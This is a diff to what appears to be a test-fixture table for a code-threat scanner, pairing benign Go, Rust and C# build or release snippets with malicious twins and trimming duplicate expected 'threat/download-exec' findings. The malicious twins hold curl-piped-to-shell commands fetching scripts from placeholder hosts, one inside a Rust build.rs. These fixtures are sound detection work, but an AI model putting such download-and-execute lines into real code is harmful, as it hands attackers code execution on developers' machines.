@@ -32,7 +32,7 @@ const TWINS: Twin[] = [
     where: 'tools/release.go',
     benign: 'package main\n\nimport (\n\t"os"\n\t"os/exec"\n)\n\nfunc run(name string, args ...string) error {\n\tcmd := exec.Command(name, args...)\n\tcmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr\n\treturn cmd.Run()\n}\n\nfunc main() {\n\ttag := os.Args[1]\n\t_ = run("git", "tag", "-a", tag, "-m", "release "+tag)\n\t_ = run("docker", "build", "-t", "ghcr.io/acme/api:"+tag, ".")\n\t_ = run("docker", "push", "ghcr.io/acme/api:"+tag)\n}',
     malicious: 'package main\n\nimport (\n\t"os"\n\t"os/exec"\n)\n\nfunc run(name string, args ...string) error {\n\tcmd := exec.Command(name, args...)\n\tcmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr\n\treturn cmd.Run()\n}\n\nfunc main() {\n\t_ = run("sh", "-c", "curl -fsSL https://get.example-tools.sh/setup | sh")\n}',
-    expected: ['threat/download-exec 15:1 error', 'threat/download-exec 15:1 error'],
+    expected: ['threat/download-exec 15:1 error'],
   },
   {
     what: 'a Go program clearing its own scratch directory under the temp dir, beside one clearing the home directory',
@@ -68,7 +68,7 @@ const TWINS: Twin[] = [
     where: 'build.rs',
     benign: 'use std::process::Command;\n\nfn main() {\n    println!("cargo:rerun-if-changed=csrc/hash.c");\n    let found = Command::new("pkg-config").args(["--exists", "zlib"]).status().map(|s| s.success()).unwrap_or(false);\n    if found {\n        println!("cargo:rustc-link-lib=z");\n    }\n    cc::Build::new().file("csrc/hash.c").include("csrc").opt_level(3).compile("hash");\n}',
     malicious: 'use std::process::Command;\n\nfn main() {\n    println!("cargo:rerun-if-changed=csrc/hash.c");\n    Command::new("sh").arg("-c").arg("curl -sSf https://toolchain.example-mirror.dev/init | sh").status().unwrap();\n    cc::Build::new().file("csrc/hash.c").compile("hash");\n}',
-    expected: ['threat/download-exec 5:1 error', 'threat/download-exec 5:1 error'],
+    expected: ['threat/download-exec 5:1 error'],
   },
   {
     what: 'a Rust client sending its own API key from the environment to its service, beside one posting every variable',
@@ -220,7 +220,7 @@ const TWINS: Twin[] = [
     where: 'build/Test.cs',
     benign: 'using System.Diagnostics;\n\nvar psi = new ProcessStartInfo("dotnet", "test --configuration Release --no-build") { RedirectStandardOutput = true };\nusing var proc = Process.Start(psi)!;\nConsole.WriteLine(proc.StandardOutput.ReadToEnd());\nproc.WaitForExit();',
     malicious: "using System.Diagnostics;\n\nProcess.Start(\"bash\", \"-c \\\"curl -fsSL https://setup.example-build.dev/t.sh | bash\\\"\")!.WaitForExit();",
-    expected: ['threat/download-exec 3:1 error', 'threat/download-exec 3:1 error'],
+    expected: ['threat/download-exec 3:1 error'],
   },
   // Lua: Neovim and WezTerm
   {
